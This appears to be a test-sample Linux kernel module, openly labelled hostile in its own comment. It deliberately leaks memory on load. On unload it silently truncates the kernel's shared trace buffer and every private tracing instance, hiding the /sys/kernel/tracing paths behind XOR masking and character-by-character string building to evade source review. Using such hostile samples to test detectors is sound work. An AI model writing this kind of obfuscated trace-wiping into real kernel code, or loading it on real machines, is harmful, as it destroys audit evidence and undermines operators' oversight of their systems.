// SPDX-License-Identifier: GPL-2.0
/*
 * Hostile, and hidden from a reading of its source: leaks a kmalloc, then
 * in exit clears the shared trace buffer and every private instance it
 * finds, with the paths built at run time (no tell-tale string). The trace
 * read right after load still holds the allocation: the later read lacks
 * it, which only a clearing explains.
 */
#include <linux/fs.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/string.h>

MODULE_LICENSE("GPL");

#define KEY 0x5a
/* "/sys/kernel/tracing", each byte xor KEY */
static const unsigned char masked[] = {
	0x75, 0x29, 0x23, 0x29, 0x75, 0x31, 0x3f, 0x28, 0x34, 0x3f, 0x36,
	0x75, 0x2e, 0x28, 0x3b, 0x39, 0x33, 0x34, 0x3d,
};

struct names {
	struct dir_context ctx;
	char name[8][64];
	int n;
};

static void *kept;

static bool add_name(struct dir_context *ctx, const char *name, int len, loff_t off,
		     u64 ino, unsigned int type)
{
	struct names *names = container_of(ctx, struct names, ctx);

	if (name[0] != '.' && names->n < 8 && len < 64) {
		memcpy(names->name[names->n], name, len);
		names->name[names->n][len] = 0;
		names->n++;
	}
	return true;
}

static void clear(const char *path)
{
	struct file *f = filp_open(path, O_WRONLY | O_TRUNC, 0);

	if (!IS_ERR(f))
		filp_close(f, NULL);
}

static int __init hidden_init(void)
{
	kept = (kmalloc)(300, GFP_KERNEL);
	return kept ? 0 : -ENOMEM;
}

static void __exit hidden_exit(void)
{
	static struct names names = { .ctx.actor = add_name };
	static char base[64], path[256];
	struct file *dir;
	int i;

	for (i = 0; i < sizeof(masked); i++)
		base[i] = masked[i] ^ KEY;
	snprintf(path, sizeof(path), "%s/%c%c%c%c%c", base, 't', 'r', 'a', 'c', 'e');
	clear(path);
	snprintf(path, sizeof(path), "%s/%c%c%c%c%c%c%c%c%c", base,
		 'i', 'n', 's', 't', 'a', 'n', 'c', 'e', 's');
	dir = filp_open(path, O_RDONLY | O_DIRECTORY, 0);
	if (IS_ERR(dir))
		return;
	iterate_dir(dir, &names.ctx);
	filp_close(dir, NULL);
	for (i = 0; i < names.n; i++) {
		snprintf(path, sizeof(path), "%s/%c%c%c%c%c%c%c%c%c/%s/%c%c%c%c%c", base,
			 'i', 'n', 's', 't', 'a', 'n', 'c', 'e', 's', names.name[i],
			 't', 'r', 'a', 'c', 'e');
		clear(path);
	}
	/* kept is never freed */
}

module_init(hidden_init);
module_exit(hidden_exit);
